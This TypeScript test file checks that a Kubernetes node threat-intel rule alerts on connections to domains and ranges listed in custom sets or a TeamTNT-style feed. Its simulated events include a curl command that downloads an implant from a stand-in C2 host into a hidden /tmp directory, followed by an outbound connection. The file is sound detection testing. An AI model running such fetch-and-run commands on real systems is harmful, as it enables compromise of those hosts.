import { type Alert } from '../../../shared/alerts/alert';
import { threatIntelConnection } from '../../../shared/detection/rules/node/threat-intel-connection';
import { nodeSignal } from '../../../shared/ingestion/batchSignal';
import { processEventBatch } from '../../../shared/ingestion/processEventBatch';
import { CachedSubscriptionSettings } from '../../../shared/ingestion/subscriptionSettings';
import { processExecEvent, tcpConnectEvent } from '../../../shared/node/exampleNodeEvents';
import { type ThreatIntelFeedDocument, upsertThreatIntelFeed } from '../../../shared/store/threatIntelFeedStore';
import { ingestionDependencies } from '../../support/ingestionDependencies';
import { ndjson, nodeBatch, nodeTime, onCluster } from '../../support/nodeMessages';
import { storedAlertsOf } from '../../support/storedAlerts';
import { seedThreatIntelSet, threatIntelTestBed } from '../../support/threatIntelTestBed';

/*
 * threat-intel-connection through the node pipeline: the subscription's custom sets and the configured feeds reach
 * the node rule as they reach the audit rules (test/shared/ingestion/threatIntelIngestion.test.ts), per subscription.
 * The library is the node rule alone: its own `readsCustomThreatIntel` makes the pipeline load the sets.
 */

const NOW = new Date('2026-11-22T10:30:00.000Z');
const SET_NAME = 'incident-2026-11';
const FEED_NAME = 'maltrail-teamtnt';
const ALERT_TYPE = 'K8S.NODE_ThreatIntelConnection';

const { cosmos: testCosmos, newSubscription } = threatIntelTestBed('7f2a', '2026-11-22T09:00:00.000Z');

async function seedSet(subscriptionId: string): Promise<void> {
  await seedThreatIntelSet(testCosmos(), subscriptionId, {
    name: SET_NAME,
    description: 'Command-and-control of the November incident',
    ips: [],
    cidrs: ['198.51.100.0/24'],
    domains: ['*.c2-staging.example.net'],
  }, NOW);
}

/** A `domain` feed as refreshThreatIntelFeeds stores it. */
function domainFeed(domains: string[]): ThreatIntelFeedDocument {
  return {
    id: FEED_NAME,
    name: FEED_NAME,
    kind: 'domain',
    source: 'https://raw.githubusercontent.com/stamparm/maltrail/master/trails/static/malware/elf_teamtnt.txt',
    ips: [],
    cidrs: [],
    domains,
    entryCount: domains.length,
    skippedLines: 0,
    skippedExamples: [],
    droppedEntries: 0,
    bytes: 2048,
    sha256: 'b'.repeat(64),
    fetchedUtc: '2026-11-22T06:15:00.000Z',
  };
}

/** An implant in the shop's web pod connecting out on 443, and the shell that fetched it with curl. */
function implantEvents(subscriptionId: string, minute: number): Record<string, unknown>[] {
  return [
    onCluster(
      processExecEvent({ binary: '/usr/bin/curl', arguments: '-fsSL -o /tmp/.x/agent http://dl.c2-staging.example.net/agent', parent: { binary: '/bin/sh' }, time: nodeTime(minute) }),
      subscriptionId,
    ),
    onCluster(tcpConnectEvent({ process: { binary: '/tmp/.x/agent', arguments: '' }, daddr: '198.51.100.23', dport: 443, time: nodeTime(minute, 5) }), subscriptionId),
  ];
}

async function threatIntelAlertsOf(subscriptionId: string): Promise<Alert[]> {
  return (await storedAlertsOf(testCosmos().database, subscriptionId)).filter((alert) => alert.alertType === ALERT_TYPE);
}

describe('processEventBatch (node signal): threat intel', () => {
  it("when a subscription's custom set lists a domain and a range, then its node events alert naming the set, and the same events of another subscription do not", async () => {
    const listing = await newSubscription();
    const other = await newSubscription();
    await seedSet(listing);
    const settings = new CachedSubscriptionSettings(testCosmos().database, 60_000, () => NOW.getTime());

    const { summary } = await processEventBatch(
      nodeBatch([ndjson([...implantEvents(listing, 1), ...implantEvents(other, 1)])], { partitionId: 'ti-node-1' }),
      nodeSignal,
      ingestionDependencies(testCosmos().database, NOW, { rules: [threatIntelConnection], subscriptionSettings: settings }),
    );

    expect(summary.analyzed).toBe(4);
    const alerts = await threatIntelAlertsOf(listing);
    expect(alerts.map((alert) => alert.extendedProperties).sort((a, b) => String(a['indicator']).localeCompare(String(b['indicator'])))).toEqual([
      expect.objectContaining({ indicator: 'threat-intel address', threatIntelList: SET_NAME, threatIntelListKind: 'custom', listEntry: '198.51.100.0/24', seen: '198.51.100.23:443' }),
      expect.objectContaining({
        indicator: 'threat-intel domain',
        threatIntelList: SET_NAME,
        threatIntelListKind: 'custom',
        listEntry: '*.c2-staging.example.net',
        seen: 'dl.c2-staging.example.net',
      }),
    ]);
    expect(await threatIntelAlertsOf(other)).toEqual([]);
    expect(settings.reads.threatIntelSets).toBe(2);
  });

  it('when a configured domain feed lists the host, then every subscription alerts naming the feed, and a custom set naming the same host wins in its subscription', async () => {
    const plain = await newSubscription();
    const listing = await newSubscription();
    await seedSet(listing);
    await upsertThreatIntelFeed(testCosmos().database, domainFeed(['dl.c2-staging.example.net']));
    const settings = new CachedSubscriptionSettings(testCosmos().database, 60_000, () => NOW.getTime());

    await processEventBatch(
      nodeBatch([ndjson([implantEvents(plain, 2)[0] ?? {}, implantEvents(listing, 2)[0] ?? {}])], { partitionId: 'ti-node-2' }),
      nodeSignal,
      ingestionDependencies(testCosmos().database, NOW, { rules: [threatIntelConnection], subscriptionSettings: settings }),
    );

    expect((await threatIntelAlertsOf(plain)).map((alert) => alert.extendedProperties)).toEqual([
      expect.objectContaining({ threatIntelList: FEED_NAME, threatIntelListKind: 'feed', listEntry: 'dl.c2-staging.example.net' }),
    ]);
    expect((await threatIntelAlertsOf(listing)).map((alert) => alert.extendedProperties)).toEqual([
      expect.objectContaining({ threatIntelList: SET_NAME, threatIntelListKind: 'custom', listEntry: '*.c2-staging.example.net' }),
    ]);
  });
});
